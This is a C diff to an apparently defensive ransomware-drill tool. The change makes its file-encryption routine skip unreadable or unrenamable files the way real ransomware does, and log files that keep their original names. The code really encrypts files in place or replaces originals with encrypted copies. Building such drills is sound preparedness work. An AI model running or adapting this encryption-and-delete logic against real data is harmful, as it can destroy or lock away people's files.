@@ -149,24 +149,29 @@ static int encrypt_one(const struct drill_opts *o, const char *ext, int state, c
 	lb_path_join(&from, o->dir, rel);
 	buf_adds(&to, from.data);
 	buf_adds(&to, ext);
+	const char *done_ext = ext;
 	int rc = 0, fd = open(from.data, (o->mode == DRILL_COPY_DELETE ? O_RDONLY : O_RDWR) | O_NOFOLLOW | O_CLOEXEC);
 	struct stat st;
+	/* A file that cannot be taken is skipped, as an encryptor would: it is left as it was. */
 	if (fd < 0 || fstat(fd, &st) < 0) {
-		rc = lb_error_errno(errno, "cannot open '%s'", from.data);
+		lb_warn("drill: skipping '%s': %s", from.data, strerror(errno));
+		rc = 1;
 		goto out;
 	}
 	if (o->mode == DRILL_COPY_DELETE) {
 		int nfd = open(to.data, O_WRONLY | O_CREAT | O_EXCL | O_NOFOLLOW | O_CLOEXEC, st.st_mode & 07777);
 		if (nfd < 0) {
-			rc = lb_error_errno(errno, "cannot create '%s'", to.data);
+			lb_warn("drill: skipping '%s': cannot create the new name: %s", from.data, strerror(errno));
+			rc = 1;
 			goto out;
 		}
 		int e = transform(o->mode, fd, nfd, (uint64_t)st.st_size, nonce, key);
 		if (close(nfd) < 0 && !e)
 			e = -errno;
 		if (e || unlink(from.data) < 0) {
-			rc = lb_error_errno(e ? -e : errno, "cannot encrypt '%s'", from.data);
+			lb_warn("drill: skipping '%s': %s", from.data, strerror(e ? -e : errno));
 			unlink(to.data);
+			rc = 1;
 			goto out;
 		}
 	} else {
@@ -178,8 +183,9 @@ static int encrypt_one(const struct drill_opts *o, const char *ext, int state, c
 		close(fd);
 		fd = -1;
 		if (*ext && rename(from.data, to.data) < 0) {
-			rc = lb_error_errno(errno, "cannot rename '%s'", from.data);
-			goto out;
+			/* encrypted under its own name (the new one may be too long): remembered so */
+			lb_warn("drill: '%s' keeps its name: %s", from.data, strerror(errno));
+			done_ext = "";
 		}
 	}
 	buf_addf(&line, "file %lld ", (long long)lb_now_ms());
@@ -187,7 +193,7 @@ static int encrypt_one(const struct drill_opts *o, const char *ext, int state, c
 	buf_addf(&line, " %llu ", (unsigned long long)st.st_size);
 	hex(&line, rel, strlen(rel));
 	buf_addch(&line, ' ');
-	hex(&line, ext, strlen(ext));
+	hex(&line, done_ext, strlen(done_ext));
 	buf_addch(&line, '\n');
 	if (write_all(state, &line) < 0)
 		rc = lb_error_errno(errno, "cannot write the drill state");
@@ -309,6 +315,8 @@ int drill_ransomware(const struct drill_opts *o, struct drill_result *r)
 		}
 		if (rc == 0)
 			rc = encrypt_one(o, ext, state, files.v[i], key, r);
+		if (rc > 0)
+			rc = 0; /* skipped */
 	}
 	free(lastdir);
 	sodium_memzero(key, sizeof key);
